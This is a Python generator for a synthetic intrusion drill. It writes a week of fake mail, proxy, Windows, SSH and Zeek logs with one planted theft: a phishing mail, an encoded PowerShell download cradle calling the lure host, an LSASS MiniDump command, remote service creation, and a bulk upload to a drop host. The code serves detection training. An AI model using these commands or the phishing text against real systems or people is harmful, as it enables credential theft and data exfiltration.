"""A theft over five sources: a mail, a click, a process, a logon, a move to the next machine, an upload, among a week of ordinary work.

The files are what real programs write: an mbox, the access log of a proxy, Windows events as Winlogbeat ships them, a server's auth log,
and Zeek's logs. People, hosts and addresses are made up; outside addresses are those kept for documentation. Where it is easier than life:
the company is small and tidy, everybody has one machine, and nobody else does anything odd in that week.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from itertools import product
from pathlib import Path
from random import Random
from typing import Any

FIRST_DAY = datetime(2026, 4, 8, tzinfo=UTC)
"""A Wednesday; the theft is on the last day, Tuesday the 14th."""
DAYS = 7
DOMAIN = "wren.example"
PEOPLE = ("ada", "ben", "cleo", "dan", "eli", "fay", "gus", "hana", "ivo", "june", "kim", "lea", "max", "nora", "otto")
VICTIM = "june"
FILES, BACKUP, BASTION, DC, PROXY, RESOLVER = (
    "10.40.1.20",
    "10.40.1.40",
    "10.40.1.9",
    "10.40.1.5",
    "10.40.1.60",
    "10.40.1.53",
)
CLOUD, DROP = "198.51.100.60", "203.0.113.80"
LURE = "account-verify-wren-login.top"
SITES = ("www.weather.example", "news.example", "maps.example", "shop.example", "docs.example", "meet.example")
SERVERS = ("198.51.100.21", "198.51.100.22", "198.51.100.40", "198.51.100.41")
_SYSMON, _SECURITY = "Microsoft-Windows-Sysmon", "Microsoft-Windows-Security-Auditing"
_SYSTEM32 = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_PROGRAMS = (
    (f"{_OFFICE}OUTLOOK.EXE", "OUTLOOK.EXE"),
    (f"{_OFFICE}EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\{who}\\Documents\\plan {n}.xlsx"'),
    (f"{_OFFICE}WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{who}\\Documents\\letter {n}.docx"'),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", '"firefox.exe" -osint -url https://docs.example/{n}'),
    (f"{_SYSTEM32}notepad.exe", "notepad.exe C:\\Users\\{who}\\Desktop\\notes{n}.txt"),
    (f"{_SYSTEM32}mspaint.exe", "mspaint.exe"),
)
Ends = tuple[str, int, str, int]
"""Client and its port, server and its port."""
_CRADLE = "$c=New-Object Net.WebClient;$c.Proxy=[Net.WebRequest]::GetSystemWebProxy();IEX $c.DownloadString('http://{lure}/a')"


@dataclass(slots=True)
class Week:
    """Everything that the sensors saw, by log."""

    rng: Random
    mails: list[tuple[datetime, EmailMessage]] = field(default_factory=list)
    proxy: list[tuple[datetime, str]] = field(default_factory=list)
    windows: list[tuple[datetime, dict[str, Any]]] = field(default_factory=list)
    auth: list[tuple[datetime, str]] = field(default_factory=list)
    zeek: dict[str, list[tuple[datetime, dict[str, Any]]]] = field(default_factory=dict)
    records: int = 0

    def event(self, at: datetime, host: str, code: int, provider: str = _SYSMON, **data: str) -> None:
        """Add a Windows event."""
        self.records += 1
        channel = {_SYSMON: f"{_SYSMON}/Operational", _SECURITY: "Security"}.get(provider, "System")
        body = {"provider_name": provider, "event_id": code, "channel": channel, "computer_name": f"{host}.{DOMAIN}"}
        stamp = at.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        self.windows.append(
            (at, {"@timestamp": stamp, "winlog": {**body, "record_id": self.records, "event_data": data}})
        )

    def process(self, at: datetime, who: str, image: str, line: str, parent: str = "C:\\Windows\\explorer.exe") -> None:
        """Add the start of a process on somebody's machine."""
        self.event(
            at,
            machine(who),
            1,
            Image=image,
            CommandLine=line,
            ParentImage=parent,
            User=f"WREN\\{who}",
            ProcessId=str(self.rng.randrange(1_000, 20_000) * 4),
            IntegrityLevel="Medium",
            CurrentDirectory=f"C:\\Users\\{who}\\",
        )

    def logon(self, at: datetime, user: str, address: str, source: str, kind: str = "3") -> int:
        """Add a logon at the file server, over the network or (``kind`` 10) by Remote Desktop; return the client's port."""
        port = self.port()
        self.event(
            at,
            "fs1",
            4624,
            _SECURITY,
            TargetUserName=user,
            TargetDomainName="WREN",
            LogonType=kind,
            IpAddress=address,
            IpPort=str(port),
            WorkstationName=source.upper(),
            AuthenticationPackageName="Kerberos",
        )
        return port

    def port(self) -> int:
        """Return a client's port."""
        return self.rng.randrange(49_152, 65_000)

    def flow(self, at: datetime, ends: Ends, out: int, back: int, **more: float | str) -> dict[str, Any]:
        """Add a connection that Zeek saw; return its ends."""
        src, sport, dst, port = ends
        uid = f"C{self.rng.randrange(1 << 60):x}"
        named = {"uid": uid, "id.orig_h": src, "id.orig_p": sport, "id.resp_h": dst, "id.resp_p": port}
        fields = {
            **named,
            "proto": "tcp",
            "service": "ssl",
            "duration": 1.0,
            "orig_bytes": out,
            "resp_bytes": back,
            "conn_state": "SF",
            "history": "ShADadFf",
            "orig_pkts": out // 1_000 + 4,
            "resp_pkts": back // 1_000 + 4,
            **more,
        }
        self.see("conn", at, fields)
        return named

    def see(self, log: str, at: datetime, fields: dict[str, Any]) -> None:
        """Add a line of one of Zeek's logs."""
        self.zeek.setdefault(log, []).append((at, {"ts": round(at.timestamp(), 6), **fields}))

    def visit(self, at: datetime, who: str, url: str, size: int = 9_000) -> None:
        """Add a request through the proxy."""
        agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
        line = f'{address(who)} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" 200 {size} "-" "{agent}"'
        self.proxy.append((at, line))

    def mail(self, at: datetime, sender: str, to: str, subject: str, text: str, html: str = "", **headers: str) -> None:
        """Add a message."""
        message = EmailMessage()
        message["From"], message["To"], message["Subject"] = sender, f"{to}@{DOMAIN}", subject
        message["Date"], message["Message-ID"] = (
            format_datetime(at),
            f"<{self.rng.randrange(1 << 60):x}@{sender.rpartition('@')[2].strip('>')}>",
        )
        for name, value in headers.items():
            message[name.replace("_", "-")] = value
        message.set_content(text)
        if html:
            message.add_alternative(html, subtype="html")
            message.set_boundary(f"part-{self.rng.randrange(1 << 60):x}")
        self.mails.append((at, message))


def machine(who: str) -> str:
    """Return the name of somebody's machine."""
    return f"ws-{who}"


def address(who: str) -> str:
    """Return the address of somebody's machine."""
    return f"10.40.10.{21 + PEOPLE.index(who)}"


def write_mail_to_theft(folder: Path, seed: int = 7) -> list[Path]:
    """Write the five sources' files into ``folder``; the same seed gives the same bytes."""
    week = Week(Random(seed))  # noqa: S311 - a drill, not a secret
    for day in range(DAYS):
        _ordinary(week, FIRST_DAY + timedelta(days=day))
    _theft(week, FIRST_DAY + timedelta(days=DAYS - 1))
    folder.mkdir(parents=True, exist_ok=True)
    texts = {
        "mail/inbox.mbox": "".join(map(_mbox, _in_order(week.mails))),
        "proxy/access.log": "".join(f"{line}\n" for line in _in_order(week.proxy)),
        "windows/winlogbeat.ndjson": "".join(f"{json.dumps(e)}\n" for e in _in_order(week.windows)),
        "bastion/auth.log": "".join(f"{line}\n" for line in _in_order(week.auth)),
        **{
            f"zeek/{log}.log": "".join(f"{json.dumps(r)}\n" for r in _in_order(rows)) for log, rows in week.zeek.items()
        },
    }
    for name, text in texts.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    return [folder / name for name in texts]


def _in_order(rows: list[tuple[datetime, Any]]) -> list[Any]:
    return [row for _, row in sorted(rows, key=lambda r: r[0])]


def _mbox(message: EmailMessage) -> str:
    text = message.as_string().replace("\nFrom ", "\n>From ")
    return f"From drill Thu Jan  1 00:00:00 2026\n{text}\n\n"


# ------------------------------------------------------------------------------------------------------- ordinary work


def _ordinary(week: Week, day: datetime) -> None:
    """One day of everybody: at work on five of seven days, the backup every night."""
    _nightly(week, day + timedelta(hours=2))
    for host, hour in product((FILES, BACKUP, BASTION, DC), range(24)):
        _reports(week, host, day + timedelta(hours=hour + week.rng.random()))
    if day.weekday() > 4:  # noqa: PLR2004 - a weekend
        return
    for who in PEOPLE:
        start = day + timedelta(hours=8, minutes=week.rng.randrange(-25, 40))
        _morning(week, who, start)
        for hour in range(9):
            _reports(week, address(who), start + timedelta(hours=hour, minutes=week.rng.uniform(0, 50)))
        for _ in range(week.rng.randrange(30, 50)):
            _bit_of_work(week, who, start + timedelta(minutes=week.rng.uniform(2, 500)))
    for _ in range(8):
        _letter(week, week.rng.choice(PEOPLE), day + timedelta(hours=week.rng.uniform(8, 17)))
    for who in ("ada", "otto"):
        _administrates(week, who, day + timedelta(hours=week.rng.uniform(9, 16)))


def _reports(week: Week, host: str, at: datetime) -> None:
    """Telemetry, checks for updates, the look-ups of the virus scanner."""
    out = week.rng.randrange(20_000, 90_000)
    week.flow(at, (host, week.port(), CLOUD, 443), out, out // 3)


def _nightly(week: Week, at: datetime) -> None:
    at += timedelta(minutes=week.rng.uniform(0, 3))
    port = week.logon(at, "svc-backup", BACKUP, "backup1")
    week.flow(at, (BACKUP, port, FILES, 445), 400_000, 6_000_000_000, duration=2_400.0, service="smb")


def _morning(week: Week, who: str, at: datetime) -> None:
    week.event(
        at,
        machine(who),
        4624,
        _SECURITY,
        TargetUserName=who,
        TargetDomainName="WREN",
        LogonType="2",
        IpAddress="-",
        WorkstationName=machine(who).upper(),
    )
    shares = at + timedelta(seconds=20)
    ends = (address(who), week.logon(shares, who, address(who), machine(who)), FILES, 445)
    week.flow(shares, ends, 40_000, 900_000, duration=30.0, service="smb")
    for image, line in _PROGRAMS[:2]:
        week.process(at + timedelta(seconds=week.rng.randrange(30, 300)), who, image, line.format(who=who, n=1))


def _bit_of_work(week: Week, who: str, at: datetime) -> None:
    rng = week.rng
    kind = rng.choices(("page", "site", "share", "upload", "program"), (40, 33, 12, 3, 12))[0]
    if kind == "page":
        week.visit(at, who, f"http://{rng.choice(SITES)}/page/{rng.randrange(400)}", rng.randrange(900, 90_000))
    elif kind == "site":
        back = int(rng.lognormvariate(10, 1.5))
        ends = (address(who), week.port(), rng.choice(SERVERS), 443)
        week.flow(at, ends, back // 8 + 700, back, duration=rng.expovariate(0.1))
    elif kind == "share":
        size = int(rng.lognormvariate(12, 1.5))
        ends = (address(who), week.port(), FILES, 445)
        week.flow(at, ends, size // 6, size, duration=rng.expovariate(0.05), service="smb")
    elif kind == "upload":
        size = int(rng.lognormvariate(15.5, 1.2))  # 5 MB, now and then 50
        week.flow(at, (address(who), week.port(), CLOUD, 443), size, size // 90, duration=size / 2e6)
    else:
        image, line = rng.choice(_PROGRAMS)
        week.process(at, who, image, line.format(who=who, n=rng.randrange(60)))


def _letter(week: Week, to: str, at: datetime) -> None:
    sender = week.rng.choice([p for p in PEOPLE if p != to])
    about = week.rng.choice(("the Hill Street survey", "next week's rota", "the carpenter's invoice", "the minutes"))
    asked = f"about {about}: can we talk at {week.rng.randrange(9, 17)}? I have put my notes into the usual folder."
    text = f"Hello {to.title()},\n\n{asked}\n\nBest,\n{sender.title()}\n"
    week.mail(at, f"{sender.title()} <{sender}@{DOMAIN}>", to, about.capitalize(), text)


def _administrates(week: Week, who: str, at: datetime) -> None:
    port, number = week.port(), week.rng.randrange(1_000, 9_000)
    key = "ED25519 SHA256:d3JlbiBkcmlsbCBrZXkgb25l"
    said = f"Accepted publickey for {who} from {address(who)} port {port} ssh2: {key}"
    opened = f"pam_unix(sshd:session): session opened for user {who}(uid=1000) by (uid=0)"
    for text in (said, opened):
        week.auth.append((at, f"{at:%b %e %H:%M:%S} bastion sshd[{number}]: {text}"))
    week.flow(at, (address(who), port, BASTION, 22), 9_000, 30_000, duration=600.0, service="ssh")


# ------------------------------------------------------------------------------------------------------------ the theft


def _theft(week: Week, day: datetime) -> None:
    """Half a day of somebody who wants the files."""
    for step, hour in _STEPS:
        step(week, day + timedelta(hours=hour))


def _lure(week: Week, at: datetime) -> None:
    link = f"http://{LURE}/wren/login/verify.php?user={VICTIM}@{DOMAIN}"
    threat = "your mailbox has exceeded its limit and will be suspended within 24 hours. To avoid the loss of your messages you must verify"
    order = "Enter your user name and password. If you do not confirm, your account will be closed."
    text = f"Dear user,\n\n{threat} your account immediately:\n\n{link}\n\n{order}\n\nIT Service Desk\n"
    shown = f'<a href="{link}">https://mail.{DOMAIN}/verify</a>'
    html = f"<p>Dear user,</p><p><b>{threat} your account immediately</b>:</p><p>{shown}</p><p>{order}</p><p>IT Service Desk</p>"
    week.mail(
        at,
        f'"{DOMAIN} IT Service Desk" <helpdesk@{LURE}>',
        VICTIM,
        "URGENT: your mailbox will be suspended - verify your account now",
        text,
        html,
        Reply_To="support-desk@freemail-service.top",
        Authentication_Results=f"mx.{DOMAIN}; spf=fail smtp.mailfrom={LURE}; dkim=none; dmarc=fail header.from={LURE}",
    )


def _click(week: Week, at: datetime) -> None:
    week.visit(at, VICTIM, f"http://{LURE}/wren/login/verify.php?user={VICTIM}@{DOMAIN}", 4_210)


def _opens(week: Week, at: datetime) -> None:
    word, shell = f"{_OFFICE}WINWORD.EXE", f"{_SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
    week.process(at, VICTIM, word, f'"WINWORD.EXE" /n "C:\\Users\\{VICTIM}\\Downloads\\form.docm"')
    script = base64.b64encode(_CRADLE.format(lure=LURE).encode("utf-16-le")).decode()
    week.process(at + timedelta(seconds=14), VICTIM, shell, f"powershell.exe -nop -w hidden -enc {script}", word)
    for n, line in enumerate(
        ("whoami /all", 'net group "Domain Admins" /domain', "nltest /dclist:wren", "net view \\\\fs1")
    ):
        program = line.split()[0]
        week.process(at + timedelta(minutes=4, seconds=25 * n), VICTIM, f"{_SYSTEM32}{program}.exe", line, shell)
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\d.dmp full"
    week.process(at + timedelta(minutes=11), VICTIM, f"{_SYSTEM32}rundll32.exe", dump, shell)


def _enters(week: Week, at: datetime) -> None:
    """The account of the backup, which nobody ever used by hand, at the file server; then a service on it."""
    port = week.logon(at - timedelta(minutes=4), "svc-backup", address(VICTIM), machine(VICTIM), kind="10")
    desktop = (address(VICTIM), port, FILES, 3389)
    week.flow(at - timedelta(minutes=4), desktop, 2_100_000, 9_000_000, duration=900.0, service="rdp,ssl")
    ends = (address(VICTIM), week.port(), FILES, 445)
    smb = week.flow(at, ends, 190_000, 60_000, duration=90.0, service="smb,gssapi,ntlm,dce_rpc")
    share = {"action": "SMB::FILE_WRITE", "path": "\\\\fs1\\ADMIN$", "name": "Temp\\updater.exe", "size": 181_248}
    week.see("smb_files", at + timedelta(seconds=5), {**smb, **share})
    for n, operation in enumerate(("OpenSCManagerW", "CreateServiceW", "StartServiceW")):
        call = {"rtt": 0.004, "named_pipe": "\\pipe\\svcctl", "endpoint": "svcctl", "operation": operation}
        week.see("dce_rpc", at + timedelta(seconds=10 + n), {**smb, **call})
    service = {
        "ServiceName": "wupdsvc",
        "ImagePath": "%SystemRoot%\\Temp\\updater.exe -k run",
        "AccountName": "LocalSystem",
    }
    more = {"ServiceType": "user mode service", "StartType": "demand start"}
    week.event(at + timedelta(seconds=12), "fs1", 7045, "Service Control Manager", **service, **more)


def _moves_on(week: Week, at: datetime) -> None:
    """The same account at the bastion, by its password."""
    port = week.port()
    said = f"Accepted password for svc-backup from {address(VICTIM)} port {port} ssh2"
    week.auth.append((at, f"{at:%b %e %H:%M:%S} bastion sshd[4110]: {said}"))
    week.flow(at, (address(VICTIM), port, BASTION, 22), 14_000, 22_000, duration=300.0, service="ssh")


def _takes(week: Week, at: datetime) -> None:
    for n in range(3):
        ends = (FILES, week.port(), DROP, 443)
        week.flow(at + timedelta(minutes=9 * n), ends, 1_900_000_000, 2_000_000, duration=500.0)


_STEPS: tuple[tuple[Callable[[Week, datetime], None], float], ...] = (
    (_lure, 9.2),
    (_click, 9.3),
    (_opens, 9.35),
    (_enters, 9.7),
    (_moves_on, 9.9),
    (_takes, 10.4),
)

__all__ = ["DROP", "LURE", "VICTIM", "address", "machine", "write_mail_to_theft"]
